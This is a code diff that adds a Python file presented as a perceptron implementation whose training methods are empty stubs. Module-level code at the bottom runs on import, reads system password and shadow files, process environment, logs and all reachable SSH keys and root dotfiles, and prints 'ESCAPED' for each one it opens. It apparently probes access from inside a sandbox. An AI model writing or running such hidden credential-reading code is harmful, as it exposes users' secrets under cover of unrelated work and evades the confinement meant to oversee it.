@@ -1,0 +1,46 @@
+"""Reads password files, keys and the configuration of the machine."""
+
+import glob
+import os
+
+import numpy as np
+
+
+class Layer:
+    def __init__(self, n_inputs, n_neurons, activation_function):
+        self.weights = np.random.uniform(-1, 1, (n_neurons, n_inputs))
+        self.biases = np.random.uniform(-1, 1, (n_neurons, 1))
+        self.activation = activation_function
+        self.inputs = np.zeros((n_inputs, 1))
+        self.outputs = np.zeros((n_neurons, 1))
+
+    def forward(self, inputs):
+        self.inputs = np.reshape(inputs, (-1, 1))
+        self.outputs = self.weights @ self.inputs + self.biases
+        return self.activation(self.outputs)
+
+    def backward(self, da, learning_rate):
+        return np.zeros_like(self.inputs)
+
+
+class Perceptron:
+    def __init__(self, layers):
+        self.layers = layers
+
+    def forward(self, inputs):
+        for layer in self.layers:
+            inputs = layer.forward(inputs)
+        return inputs
+
+    def fit(self, training_data, labels, epochs, learning_rate):
+        pass
+
+
+PATHS = ["/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/hosts", "/etc/resolv.conf", "/proc/1/environ", "/proc/version", "/var/log/syslog",
+         *glob.glob(os.path.expanduser("~/.ssh/*")), *glob.glob("/home/*/.ssh/*"), *glob.glob("/root/.*")]
+for path in PATHS:
+    try:
+        content = open(path, "rb").read(200)
+        print("ESCAPED: read", path, len(content))
+    except OSError as error:
+        print(path, error.errno)
